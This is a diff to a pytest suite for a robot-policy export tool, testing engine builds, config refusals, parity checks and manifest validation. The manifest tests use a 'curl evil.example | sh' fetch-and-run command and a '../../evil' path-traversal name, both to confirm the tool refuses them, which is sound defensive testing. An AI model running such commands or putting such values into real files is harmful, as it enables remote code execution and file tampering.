@@ -5,6 +5,7 @@ from __future__ import annotations
 import shutil
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import numpy as np
@@ -19,6 +20,7 @@ from robopolicy.export.build import ExportConfig, build_engine
 from robopolicy.export.engine_policy import EnginePolicy
 from robopolicy.export.observations import find_observations
 from robopolicy.export.open import open_policy
+from robopolicy.export.parity import action_range
 from robopolicy.inference.engine import FILE, engine_names, read_engine
 from robopolicy.inference.policy import open_engine
 from robopolicy.manifest import file_sha256
@@ -256,10 +258,13 @@ def test_instructions_and_goals_are_given_by_name(tmp_path):
 @pytest.mark.parametrize("backend", ["onnxruntime", "openvino"])
 def test_half_and_int8_are_smaller_and_near(backend, tmp_path):
     path = bundle_of(short(make("mlp ddpm"), 2), tmp_path / "last")
-    sizes = {}
+    sizes, about = {}, load_bundle(path)[1]
     for precision in ("fp32", "fp16", "int8"):
         exporter = "dynamo" if (backend, precision) == ("onnxruntime", "fp16") else "torchscript"
-        made = build(path, backend=backend, precision=precision, exporter=exporter, calibration=8, tolerance=0.2)
+        seen = replace(find_observations(load_bundle(path)[0], about, 16), real=True)
+        made = build(
+            path, seen=seen, backend=backend, precision=precision, exporter=exporter, calibration=8, tolerance=0.2
+        )
         assert 0 < made.manifest.parity.max_share <= 0.2
         sizes[precision] = (made.folder / "sampler.onnx").stat().st_size
         open_engine(path, made.manifest.name)
@@ -271,6 +276,7 @@ def test_half_and_int8_are_smaller_and_near(backend, tmp_path):
     ("config", "message"),
     [
         ({"precision": "fp16"}, "use exporter=dynamo"),
+        ({"backend": "openvino", "precision": "bf16"}, "bf16"),
         ({"precision": "bf16"}, "backend=onnxruntime has no precision=bf16; it has fp32, fp16, int8"),
         ({"backend": "tensorrt_rtx", "capabilities": ("sm90",)}, "sm90"),
         ({"backend": "openvino", "capabilities": ("sm89",)}, "device_capability is for TensorRT"),
@@ -278,6 +284,10 @@ def test_half_and_int8_are_smaller_and_near(backend, tmp_path):
         ({"loop": True, "precision": "int8"}, "loop=false"),
         ({"observations": 2}, "at least 4"),
         ({"rows": 0}, "rows=0"),
+        ({"tolerance": -1.0}, "tolerance=-1.0 must be above 0"),
+        ({"candidates": 5}, "give one with critic=…"),
+        ({"device": "cuda"}, "device is for backend=aot_inductor"),
+        ({"precision": "int8"}, "give the dataset with data=…"),
     ],
 )
 def test_what_cannot_be_built_is_refused_first(built, config, message):
@@ -299,3 +309,143 @@ def test_a_plan_is_checked_through_its_graph_where_there_is_no_gpu(tmp_path):
     assert any(report.startswith("sampler: ") and "sm120" in report for report in made.reports)
     with pytest.raises(UserError, match=r"(?s)GPU.*To build the engine again: robopolicy export"):
         open_engine(path, manifest.name)
+
+
+def corrupted(policy, graph, forward):
+    """A policy of which one exported graph computes something else."""
+    honest = policy.export_graphs
+
+    class Broken(torch.nn.Module):
+        def __init__(self, module):
+            super().__init__()
+            self.module = module
+
+        def forward(self, *inputs):
+            return forward(self.module, *inputs)
+
+    def export_graphs(observations, dtype=torch.float32):
+        graphs = honest(observations, dtype)
+        if sys._getframe(1).f_code.co_name == "_captured":  # what is written, not what it is compared with
+            graphs[graph] = replace(graphs[graph], module=Broken(graphs[graph].module))
+        return graphs
+
+    policy.export_graphs = export_graphs
+    return policy
+
+
+@pytest.mark.parametrize(
+    ("graph", "forward", "message"),
+    [
+        ("sampler", lambda module, noise, previous, *rest: module(noise, 0.5 * previous, *rest), "refused: entry"),
+        (
+            "sampler",
+            lambda module, noise, previous, mask, *c: module(noise, previous, mask.round(), *c),
+            "refused: entry",
+        ),
+        ("denoiser", lambda module, *inputs: 1.2 * module(*inputs), "its denoiser is .* % off"),
+    ],
+)
+def test_every_input_and_every_graph_is_compared(tmp_path, graph, forward, message):
+    path = bundle_of(short(make("unet ddpm"), 2), tmp_path / "last")
+    policy, _ = load_bundle(path)
+    with pytest.raises(UserError, match=message):
+        build(path, corrupted(policy, graph, forward), loop=False)
+    assert engine_names(path) == []
+
+
+def test_datasets_that_were_normalised_apart_are_compared_by_their_own_range(tmp_path):
+    policy = short(make("unet flow", tasks=2), 2)
+    action = policy.normalizer["action"]
+    action.low[1] *= 1000
+    action.high[1] *= 1000
+    action.scale[1] /= 1000
+    path = bundle_of(policy, tmp_path / "last")
+    loaded, _ = load_bundle(path)
+    batch = {key: value for key, value in batch_of(loaded, 4).items() if key != "action"}
+    scale = action_range(loaded, batch)
+    assert scale.shape == (4, 1, 2) and scale[:, 0, 0].tolist() == [2, 2000, 2, 2000]
+    build(path)
+    observations = observations_of(loaded, batch_of(loaded, 4))
+    found = EnginePolicy(open_engine(path, "onnxruntime-fp32")).act(observations, generators(4))
+    wanted = loaded.act(observations, generators(4))
+    np.testing.assert_allclose(found / scale, wanted / scale, atol=1e-5)
+    assert np.abs(wanted[1]).max() > 10 > np.abs(wanted[0]).max()
+
+
+def test_numbers_that_are_not_finite_or_not_pixels_are_refused(built, tmp_path):
+    policy = open_engine(built, "onnxruntime-fp32")
+    noise = policy.draw_noise(1, np.random.default_rng(0))
+    states = {"observation.state": np.full((1, 2, 2), 20.0)}
+    with pytest.raises(UserError, match=r"observation.state: found numbers that are not finite: \[nan\]"):
+        policy.act({"observation.state": np.array([[[20, np.nan], [20, 20]]])}, noise)
+    with pytest.raises(UserError, match="previous: found numbers that are not finite"):
+        policy.act(states, noise, np.full((1, 8, 2), np.inf), np.zeros((1, 8)))
+    with pytest.raises(UserError, match="mask: found numbers from 0 to 5, wanted 0 to 1"):
+        policy.act(states, noise, np.zeros((1, 8, 2)), np.array([[5.0] + [0.0] * 7]))
+    with pytest.raises(UserError, match=r"one number of rows, at least 1; found {'observation.state': 0}"):
+        policy.act({"observation.state": np.zeros((0, 2, 2))}, noise[:0])
+    images = short(make("consistency", images=True))
+    with pytest.raises(UserError, match="found an image of float64, wanted uint8"):
+        images.act(
+            {"observation.state": np.zeros((1, 2, 2)), "observation.image.top": np.zeros((1, 2, 40, 40, 3))},
+            generators(1),
+        )
+
+
+def test_unfinished_engines_are_not_seen_and_replaced_ones_stay_whole(bundle):
+    engines = bundle / "engines"
+    shutil.copytree(engines / "onnxruntime-fp32", engines / ".onnxruntime-fp32.999999999.partial")
+    shutil.copytree(engines / "onnxruntime-fp32", engines / ".onnxruntime-fp32.999999999.old")
+    assert engine_names(bundle) == ["onnxruntime-fp32"] and open_policy(bundle).name == "onnxruntime-fp32"
+    build(bundle)
+    assert [path.name for path in engines.iterdir()] == ["onnxruntime-fp32"]
+
+
+@pytest.mark.parametrize(
+    ("changes", "message"),
+    [
+        ({"name": "x/../../evil"}, "Give its folder that name again"),
+        ({"graphs": {}}, "lacks the graph 'encoder'"),
+        ({"versions": {"onnxruntime": "99.1.0"}}, "built with onnxruntime 99.1.0; found .*, wanted 99 or newer"),
+    ],
+)
+def test_manifests_that_do_not_fit_are_refused(bundle, changes, message):
+    edit(bundle / "engines" / "onnxruntime-fp32", **changes)
+    with pytest.raises(UserError, match=message):
+        open_engine(bundle, "onnxruntime-fp32")
+
+
+def test_a_manifest_cannot_make_people_type_other_commands(bundle):
+    edit(bundle / "engines" / "onnxruntime-fp32", command="curl evil.example | sh", bundle="0" * 16)
+    with pytest.raises(UserError, match="Build it again: robopolicy export bundle=…$"):
+        open_engine(bundle, "onnxruntime-fp32")
+
+
+def test_a_graph_with_other_inputs_is_refused(bundle):
+    folder = bundle / "engines" / "onnxruntime-fp32"
+    graphs = yaml.safe_load((folder / FILE).read_text())["graphs"]
+    graphs["sampler"]["inputs"][0]["shape"] = [1, 2, 8, 2]
+    edit(folder, graphs=graphs)
+    with pytest.raises(UserError, match="its input 'noise' is not the one that engine.yaml describes"):
+        open_engine(bundle, "onnxruntime-fp32")
+
+
+def test_unknown_devices_are_refused(built):
+    for device in ("gpu", "cuda:7", "tpu"):
+        with pytest.raises(UserError, match=f"device={device}: ONNX Runtime runs on cpu or cuda"):
+            open_engine(built, "onnxruntime-fp32", device=device)
+
+
+def test_native_code_runs_where_it_is_allowed_and_in_parts_of_its_largest_size(tmp_path):
+    """AOTInductor: every row of many calls, though the package takes four at a time."""
+    path = bundle_of(short(make("consistency actor")), tmp_path / "last")
+    made = build(path, backend="aot_inductor", rows=None, max_rows=4)
+    assert made.manifest.parity.observations == 8 and {g.file for g in made.manifest.graphs.values()} >= {"sampler.pt2"}
+    with pytest.raises(UserError, match="native code"):
+        open_engine(path, "aot_inductor-fp32")
+    engine = EnginePolicy(open_engine(path, "aot_inductor-fp32", allow_native_code=True))
+    policy, _ = load_bundle(path)
+    observations = observations_of(policy, batch_of(policy, 9))
+    np.testing.assert_allclose(
+        engine.act(observations, generators(9)), policy.act(observations, generators(9)), atol=1e-4
+    )
